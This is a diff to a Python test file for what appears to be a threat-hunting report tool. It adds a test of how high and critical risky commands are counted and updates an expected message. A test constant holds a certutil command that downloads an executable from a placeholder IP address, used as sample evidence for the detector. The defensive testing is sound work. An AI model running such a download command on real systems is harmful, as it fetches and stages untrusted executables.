@@ -12,6 +12,7 @@ from huntkit.report import processes, risky_section, sections
 from huntkit.report.document import report
 from huntkit.report.facts import Facts, gather
 from huntkit.report.layouts import layouts
+from huntkit.report.summing import summed
 
 Make = Callable[..., Any]
 DOWNLOAD = "certutil -urlcache -f http://198.51.100.9/a a.exe"
@@ -47,6 +48,14 @@ def test_the_section_shows_technique_reason_and_rows(facts: Facts) -> None:
     assert ("Risky commands", "3", "risky", "alarm") in sections.tiles(facts)
 
 
+def test_the_first_tile_counts_what_is_red(facts: Facts) -> None:
+    red = facts.risky.filter(facts.risky["Severity"].is_in(["high", "critical"])).height
+    assert red == 2
+    assert facts.notable.height == 0
+    assert sections.tiles(facts)[0] == ("Alarming", "2", "risky", "alarm")
+    assert summed(facts).alarming == 2
+
+
 def test_what_is_shown_is_bounded_and_counted(evidence: Make, process_rows: Make) -> None:
     lines = [{"ProcessCommandLine": f"{DOWNLOAD} {n}", "ProcessId": n} for n in range(1, 81)]
     found = gather(evidence({"DeviceProcessEvents": process_rows(*lines)}))
@@ -65,7 +74,7 @@ def test_hostile_lines_stay_text(evidence: Make, process_rows: Make) -> None:
 
 def test_evidence_without_command_lines_says_so(evidence: Make) -> None:
     page = report(evidence({})).to_html()
-    assert "No rule finds anything, or this evidence holds no command lines." in page
+    assert "Not judged: no command lines in this evidence." in page
 
 
 def test_a_risky_branch_stands_before_one_that_is_merely_rare(
